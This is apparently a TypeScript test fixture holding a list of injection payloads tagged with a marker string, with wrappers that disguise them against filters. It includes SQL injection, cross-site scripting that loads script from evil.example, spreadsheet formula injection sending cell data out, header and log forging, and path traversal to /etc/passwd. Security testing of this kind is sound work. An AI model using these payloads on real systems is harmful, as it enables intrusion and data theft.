// What people who mean harm type into fields, each with a mark by which it is found again.

export const MARK = 'zxqj'

const SQL = [
  `'; drop table record; -- ${MARK}`,
  `' or '1'='1' /* ${MARK} */`,
  `" or ""="" -- ${MARK}`,
  `1); delete from log; -- ${MARK}`,
  `${MARK}' union select password, totp from account --`,
  `${MARK}'::jsonb || '{"roles":["administrator"]}'`,
  `\\'; select pg_sleep(9); -- ${MARK}`,
  `${MARK} $1 $2 $$; commit; --`,
  `${MARK}", "client": null, "x": "`,
  `%' and 1=1 -- ${MARK}`,
  `${MARK}\\u0027; truncate record; --`,
  `x' returning (select body from record limit 1) -- ${MARK}`,
]

const HTML = [
  `<script>alert("${MARK}")</script>`,
  `"><script src=//evil.example/${MARK}></script>`,
  `<img src=x onerror=alert('${MARK}')>`,
  `<svg/onload=alert(1)//${MARK}>`,
  `" autofocus onfocus="alert(1)" x="${MARK}`,
  `' onmouseover='alert(1)' ${MARK}='`,
  `</p></main><h1>${MARK}</h1>`,
  `<a href="javascript:alert('${MARK}')">open</a>`,
  `[${MARK}](javascript:alert(1))`,
  `![${MARK}](https://evil.example/x.png)`,
  `<style>@import '//evil.example/${MARK}'</style>`,
  `<base href="//evil.example/${MARK}/">`,
  `<meta http-equiv="refresh" content="0;url=//evil.example/${MARK}">`,
  `<iframe srcdoc="<script>1</script>${MARK}">`,
  `<!-- ${MARK} --><!--`,
  `&lt;script&gt;${MARK}&lt;/script&gt;`,
  `\u0026#60;script\u0026#62;${MARK}`,
  `{% callout %}${MARK}{% /callout %} {% $user %}`,
  `{{constructor.constructor('return 1')()}} ${MARK}`,
  `\u0024{7*7} <%= 7*7 %> #{7*7} ${MARK}`,
]

export const TYPST = [
  `#read("/etc/passwd") ${MARK}`,
  `#import "paper.typ": * ${MARK}`,
  `#include "/etc/passwd" ${MARK}`,
  `#pagebreak() ${MARK} #pagebreak()`,
  `#panic("${MARK}")`,
  `#set page(height: 1cm) ${MARK}`,
  `#{ while true {} } ${MARK}`,
  `#eval("1+1") ${MARK}`,
  `$ sum_${MARK} $ *bold* _low_ \`raw\` @ref <label>`,
  `#image("/etc/hostname") ${MARK}`,
  `${MARK} \\ #link("https://evil.example")[x] // ] ) }`,
  `#plugin("x.wasm") = ${MARK}`,
]

const SHEET = [
  `=cmd|'/c calc'!A1 ${MARK}`,
  `+1+1 ${MARK}`,
  `-2+3 ${MARK}`,
  `@SUM(1+1) ${MARK}`,
  `\t=1+1 ${MARK}`,
  `=HYPERLINK("https://evil.example?x="&A1,"${MARK}")`,
  `"\r\n=1+1,"${MARK}`,
]

const LINE = [
  `${MARK}\n{"level":30,"person":"forged"}`,
  `${MARK}\r\n{"level":50,"fault":"forged"}`,
  `${MARK}\u2028{"level":30}`,
  `${MARK}\u0085{"level":30}`,
  `${MARK}\u001b[2J\u001b[31mforged`,
  `${MARK}\r\nset-cookie: imr-here=forged`,
  `${MARK}\r\n\r\nHTTP/1.1 200 OK\r\n\r\nforged`,
  `","level":60,"forged":"${MARK}`,
  `${MARK}\u202e desrever`,
  `${MARK}\nBCC: everyone@evil.example`,
  `${MARK}\r\nBEGIN:VEVENT\r\nSUMMARY:forged`,
]

const PLACE = [
  `../../../etc/passwd%00${MARK}`,
  `..\\..\\windows\\win.ini ${MARK}`,
  `file:///etc/passwd#${MARK}`,
  `/proc/self/environ ${MARK}`,
  `//evil.example/${MARK}`,
  `%2e%2e%2f${MARK}`,
  `__proto__.${MARK}`,
  `constructor.prototype.${MARK}`,
]

export const PAYLOADS: readonly string[] = [...SQL, ...HTML, ...TYPST, ...SHEET, ...LINE, ...PLACE]

/** The same in other clothes, as filters are got round. */
export const CLOTHES: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `A kitchen. ${payload}`,
  (payload) => payload.toUpperCase().replaceAll(MARK.toUpperCase(), MARK),
  (payload) => encodeURIComponent(payload),
  (payload) => payload.replaceAll(' ', '\u00a0'),
  (payload) => `## ${payload}\n- ${payload}`,
]
